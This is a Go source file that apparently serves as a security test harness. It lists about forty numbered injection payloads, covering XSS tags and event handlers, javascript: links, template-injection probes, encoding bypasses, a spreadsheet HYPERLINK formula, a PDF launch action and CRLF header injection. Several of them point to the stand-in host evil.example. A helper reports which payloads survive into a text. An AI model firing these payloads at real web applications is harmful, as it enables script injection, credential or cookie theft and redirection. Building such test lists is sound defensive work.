package web

import (
	"fmt"
	"strings"
)

// payloads are what someone types, or writes in a scenario, who wants it to become more than words. Each begins with a word by which it is found on a page, and
// what it would make bears the attribute x9, asks evil.example, or calls alert. Where {{ }} counts, 7*191 would be seen to be computed.
var payloads = numbered(
	`<script x9>alert(9)</script>`,
	`<ScRiPt x9 src=//evil.example/x></sCrIpT>`,
	`<img x9 src=x onerror=alert(9)>`,
	`"><img x9 src=x onerror=alert(9)>`,
	`'><svg x9 onload=alert(9)>`,
	`" onfocus=alert(9) autofocus x9="`,
	`' onmouseover=alert(9) x9='`,
	"` onclick=alert(9) x9 `",
	`</textarea><script x9>alert(9)</script>`,
	`</title><script x9>alert(9)</script>`,
	`</style></script><script x9>alert(9)</script>`,
	`--><img x9 src=x onerror=alert(9)>`,
	`]]><img x9 src=x onerror=alert(9)>`,
	`<a x9 href=javascript:alert(9)>x</a>`,
	`[x](javascript:alert(9))`,
	`![x](x" onerror="alert(9))`,
	`<javascript:alert(9)> <https://evil.example/>`,
	`[x][y] [y]: https://evil.example/ https://evil.example/`,
	`data:text/html,<script x9>alert(9)</script>`,
	`<iframe x9 srcdoc="<script>alert(9)</script>"></iframe>`,
	`<object x9 data=//evil.example/></object><embed x9 src=//evil.example/>`,
	`<base x9 href=//evil.example/>`,
	`<meta x9 http-equiv=refresh content=0;url=//evil.example/>`,
	`<link x9 rel=stylesheet href=//evil.example/x.css>`,
	`</form><form x9 action=//evil.example/><button>x`,
	`<svg x9><script>alert(9)</script></svg>`,
	`<svg x9><use href="data:image/svg+xml,<svg id=x onload=alert(9)>#x"/></svg>`,
	`<math x9><mtext><table><mglyph><style><!--</style><img x9 src=x onerror=alert(9)>`,
	`<noscript><p title="</noscript><img x9 src=x onerror=alert(9)>">`,
	`<style x9>*{background:url(//evil.example/)}</style>`,
	`<x9 style=position:fixed;inset:0 onclick=alert(9)>`,
	`{{ 7*191 }}{{constructor.constructor('alert(9)')()}}`,
	`${7*191}#{7*191}<%= 7*191 %>{% x %}`,
	`\u003cimg x9 src=x onerror=alert(9)\u003e \x3cscript x9\x3e`,
	`&lt;script x9&gt;alert(9)&lt;/script&gt; &#60;img x9 onerror=alert(9)&#62;`,
	`%3Cscript x9%3Ealert(9)%3C/script%3E %253Cimg x9%253E`,
	`＜script x9＞alert(9)＜/script＞ ‹img x9›`,
	"\u202e<img x9 src=x onerror=alert(9)>\u202c \u2028<b x9>",
	`=HYPERLINK("http://evil.example/","x") @SUM(1)|cmd`,
	`) /S /JavaScript /JS (alert(9)) >> endobj << /Type /Action /URI (//evil.example) /Launch`,
	`Set-Cookie: x9=1 %0d%0aLocation: //evil.example/`,
	`+ADw-script x9+AD4-alert(9)+ADw-/script+AD4-`,
	"<scr\u00adipt x9><img/x9/src=x/onerror=alert(9)><img x9\tsrc=x\tonerror=alert(9)",
)

func numbered(list ...string) []string {
	for i, p := range list {
		list[i] = mark(i) + " " + p
	}
	return list
}

// mark is the word that stands before a payload.
func mark(i int) string { return fmt.Sprintf("Kx%02d", i+1) }

// marksIn are those of the payloads that a text holds.
func marksIn(text string) (found []string) {
	for i := range payloads {
		if strings.Contains(text, mark(i)) {
			found = append(found, mark(i))
		}
	}
	return found
}
